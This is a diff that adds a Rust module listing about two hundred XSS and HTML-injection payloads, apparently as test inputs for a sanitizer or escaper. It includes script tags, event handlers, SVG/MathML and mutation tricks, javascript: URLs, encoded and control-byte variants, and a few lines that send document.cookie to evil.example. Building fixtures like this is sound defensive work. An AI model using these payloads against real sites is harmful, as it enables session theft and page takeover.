@@ -1,0 +1,243 @@
+//! Two hundred values that would run a script, load something or break a page where they stood as markup.
+
+/// All of them, each once.
+pub(crate) fn all() -> Vec<String> {
+    let fixed = [
+        SCRIPTS, HANDLERS, FOREIGN, ADDRESSES, CLOSINGS, BREAKOUTS, MUTATIONS, ENCODED, BYTES, STYLES, OTHERS,
+    ];
+    let mut all: Vec<String> = fixed.iter().flat_map(|some| some.iter().map(|&one| one.to_owned())).collect();
+    all.push(format!("{}<script>alert(1)</script>", "A".repeat(9_000)));
+    all.push(format!("{}<img src=x onerror=alert(1)>", "<b>".repeat(600)));
+    all.push(format!("\"{} onfocus=alert(1) autofocus x=\"", " ".repeat(4_000)));
+    all.push(format!("<img src=\"data:image/png;base64,{}\" onerror=alert(1)>", "AAAA".repeat(1_500)));
+    all.push("</textarea><svg/onload=alert(1)>".repeat(90));
+    all
+}
+
+const SCRIPTS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT>alert(1)</SCRIPT>",
+    "<ScRiPt\n>alert(1)</sCrIpT\n>",
+    "<script/x>alert(1)</script/x>",
+    "<script\t>alert(1)</script >",
+    "<script>alert(1)",
+    "<script>alert(1)<!--",
+    "<script src=//evil.example/a.js></script>",
+    "<script src=data:text/javascript,alert(1)></script>",
+    "<script src=\"data:text/javascript;base64,YWxlcnQoMSk=\"></script>",
+    "<script type=module>alert(1)</script>",
+    "<script async>confirm(1)</script>",
+    "<script>prompt`1`</script>",
+    "<script>top['al'+'ert'](1)</script>",
+    "<script>eval('al\\u0065rt(1)')</script>",
+    "<script>fetch('/beacon?'+document.cookie)</script>",
+    "<script>new Image().src='//evil.example/'+document.cookie</script>",
+    "<script>location='//evil.example/'</script>",
+    "<script>navigator.sendBeacon('/beacon','x')</script>",
+    "<script>console.log('ran')</script>",
+    "<<script>alert(1);//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script>/*--></title></style></textarea></script><script>alert(1)//*/</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+];
+
+const HANDLERS: &[&str] = &[
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror='alert(1)'>",
+    "<img src=x onerror=\"alert(1)\">",
+    "<img/src=x/onerror=alert(1)>",
+    "<IMG SRC=x ONERROR=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<img src=x onerror\u{c}=alert(1)>",
+    "<img src='x'onerror=alert(1)>",
+    "<img src=x:x onerror=alert`1`>",
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    "<img src=x onerror=\\u0061lert(1)>",
+    "<img srcset=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<body onpageshow=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<button autofocus onfocus=alert(1)>x</button>",
+    "<video><source onerror=alert(1)></video>",
+    "<video src=x onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a onmouseover=alert(1)>over me</a>",
+    "<p onclick=alert(1)>press me</p>",
+    "<p onpointerenter=alert(1)>x</p>",
+    "<form onsubmit=alert(1)><input type=submit></form>",
+    "<iframe onload=alert(1)></iframe>",
+    "<object data=x onerror=alert(1)></object>",
+    "<link rel=stylesheet href=x onerror=alert(1)>",
+    "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
+    "<x onfocusin=alert(1) tabindex=1 autofocus>",
+    "<p contenteditable onbeforeinput=alert(1) autofocus>x</p>",
+    "<input type=image src=x onerror=alert(1)>",
+];
+
+const FOREIGN: &[&str] = &[
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<svg><script href=data:text/javascript,alert(1) /></svg>",
+    "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set onbegin=alert(1) attributeName=x to=y>",
+    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
+    "<svg><image href=x onerror=alert(1)></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x\" /></svg>",
+    "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
+    "<svg><title><img src=x onerror=alert(1)></title></svg>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
+];
+
+const ADDRESSES: &[&str] = &[
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "\u{1}javascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript:/*--></script>*/alert(1)",
+    "javascript://evil.example/%0aalert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "//evil.example/",
+    "\\\\evil.example\\",
+    "https://evil.example/",
+    "?x&to=a@evil.example&body=y#z",
+    "#\"><script>alert(1)</script>",
+    "<a href=javascript:alert(1)>press me</a>",
+    "<a href=\"java&#x0A;script:alert(1)\">press me</a>",
+    "<iframe src=javascript:parent.alert(1)></iframe>",
+    "<embed src=data:text/html,<script>alert(1)</script>>",
+    "<form action=javascript:alert(1)><input type=submit></form>",
+];
+
+const CLOSINGS: &[&str] = &[
+    "</textarea><script>alert(1)</script>",
+    "</TEXTAREA ><img src=x onerror=alert(1)>",
+    "</textarea/x><svg onload=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</title><img src=x onerror=alert(1)>",
+    "</style><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</script ><img src=x onerror=alert(1)>",
+    "--><script>alert(1)</script>",
+    "--!><img src=x onerror=alert(1)>",
+    "><img src=x onerror=alert(1)>",
+    "->alert(1)<!--><svg onload=alert(1)>",
+    "]]><script>alert(1)</script>",
+    "]]>]]&gt;<svg onload=alert(1)>",
+    "?><img src=x onerror=alert(1)>",
+    "%><img src=x onerror=alert(1)>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "</td></tr></table><svg onload=alert(1)>",
+    "</template><script>alert(1)</script>",
+    "</xmp></iframe></noembed></noframes></noscript><img src=x onerror=alert(1)>",
+];
+
+const BREAKOUTS: &[&str] = &[
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "`><script>alert(1)</script>",
+    "\"'`><img src=x onerror=alert(1)>",
+    "\" onfocus=alert(1) autofocus x=\"",
+    "' onfocus=alert(1) autofocus x='",
+    "` onfocus=alert(1) autofocus x=`",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    " onmouseover=alert(1) ",
+    "x onmouseover=alert(1)//",
+    "\"/onmouseover=alert(1)//",
+    "\" style=\"background:url(//evil.example/)",
+    "\" srcdoc=\"<script>parent.alert(1)</script>",
+    "\" formaction=\"javascript:alert(1)",
+    "\" type=image src=x onerror=\"alert(1)",
+    "\\\" onfocus=alert(1) autofocus \\\"",
+    "\\\";alert(1);//",
+    "';alert(1);//",
+    "`;alert(1);//",
+    "${alert(1)}",
+    "\u{ff02} onfocus=alert(1) autofocus \u{ff02}",
+    "\u{2028}alert(1)\u{2029}",
+];
+
+const MUTATIONS: &[&str] = &[
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
+    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
+    "<noscript><style></noscript><img src=x onerror=alert(1)>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<p title=\"`` onmouseover=alert(1)\">x",
+    "<svg><p><style><!--</style><img src=x onerror=alert(1)>",
+    "<template><s><template><s><img src=x onerror=alert(1)>@shadow</s></template></s></template>",
+    "<select><style><img src=x onerror=alert(1)></style></select>",
+];
+
+const ENCODED: &[&str] = &[
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "&#x3c;img src=x onerror=alert(1)&#x3E;",
+    "&amp;lt;script&amp;gt;alert(1)",
+    "&lt;script>alert(1)</script>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "%253Cscript%253Ealert(1)%253C/script%253E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cimg src=x onerror=alert(1)\\x3e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+    "&NewLine;&Tab;javascript&colon;alert&lpar;1&rpar;",
+    "&quot;onfocus=alert(1) autofocus&quot;",
+];
+
+const BYTES: &[&str] = &[
+    "\0<script>alert(1)</script>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "<img src=x on\0error=alert(1)>",
+    "\"\0onfocus=alert(1) autofocus ",
+    "\u{feff}<script>alert(1)</script>",
+    "\u{200b}<\u{200b}script>alert(1)</script>",
+    "\u{1b}$@<script>alert(1)</script>",
+    "\u{1b}(J\u{a5}\"><img src=x onerror=alert(1)>",
+    "\r\n\r\n<script>alert(1)</script>",
+    "\n<img src=x onerror=alert(1)>",
+    "\r<svg onload=alert(1)>\r",
+    "\u{b}\u{c}\u{85}<svg onload=alert(1)>",
+    "\u{202e}<script>alert(1)</script>",
+    "\u{10fffd}\u{fffe}<script>alert(1)</script>",
+];
+
+const STYLES: &[&str] = &[
+    "<style>@import '//evil.example/a.css';</style>",
+    "<style>body{background:url(//evil.example/a)}</style>",
+    "<p style=\"background:url(//evil.example/a)\">x</p>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
+    "<link rel=prefetch href=//evil.example/>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
+    "<base href=//evil.example/>",
+    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+    "expression(alert(1));background:url(javascript:alert(1))",
+];
+
+const OTHERS: &[&str] = &[
+    "{{constructor.constructor('alert(1)')()}}",
+    "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(1)>\"}}",
+    "\",\"__proto__\":{\"a\":\"<script>alert(1)</script>\"},\"b\":\"",
+    "=HYPERLINK(\"javascript:alert(1)\",\"<script>alert(1)</script>\")",
+    "<!--[if true]><script>alert(1)</script><![endif]-->",
+    "<plaintext><script>alert(1)</script>",
+    "<input name=cookie id=location><form id=document>",
+];
